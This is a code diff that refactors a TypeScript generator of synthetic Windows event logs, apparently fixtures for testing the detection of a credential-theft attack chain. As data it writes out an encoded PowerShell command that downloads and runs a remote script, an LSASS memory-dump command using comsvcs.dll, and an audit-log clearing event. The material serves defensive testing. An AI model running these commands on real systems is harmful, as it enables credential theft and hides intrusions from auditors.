@@ -138,13 +138,18 @@ const powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.e
 const rundll = "C:\\Windows\\System32\\rundll32.exe";
 const lsass = "C:\\Windows\\system32\\lsass.exe";
 
+const shell = { guid: "{0f1e0000-0002-0000-0000-000000000000}", image: powershell };
+const dump = { guid: "{0f1e0000-0003-0000-0000-000000000000}", image: rundll };
+
 /** A macro, an encoded download, a dump of LSASS, and the log cleared behind it. */
 function credentialTheft(): readonly Json[] {
+  return [...infection(), ...memoryDump(), ...quietHost(finance, clock(9, 5), clerk, 8)];
+}
+
+function infection(): readonly Json[] {
   // IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')
   const encoded =
     "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAGEALgBwAHMAMQAnACkA";
-  const shell = { guid: "{0f1e0000-0002-0000-0000-000000000000}", image: powershell };
-  const dump = { guid: "{0f1e0000-0003-0000-0000-000000000000}", image: rundll };
   return [
     started(clock(9, 12, 4), finance, {
       image: word,
@@ -172,6 +177,11 @@ function credentialTheft(): readonly Json[] {
       DestinationIp: "198.51.100.23",
       DestinationPort: "80",
     }),
+  ];
+}
+
+function memoryDump(): readonly Json[] {
+  return [
     started(clock(9, 20, 2), finance, {
       ...dump,
       command: `"${rundll}" C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Users\\Public\\m.bin full`,
@@ -197,7 +207,6 @@ function credentialTheft(): readonly Json[] {
       Message:
         "The audit log was cleared.\r\nSubject:\r\n\tAccount Name:\td.okafor\r\n\tDomain Name:\tEXAMPLE",
     }),
-    ...quietHost(finance, clock(9, 5), clerk, 8),
   ];
 }
 
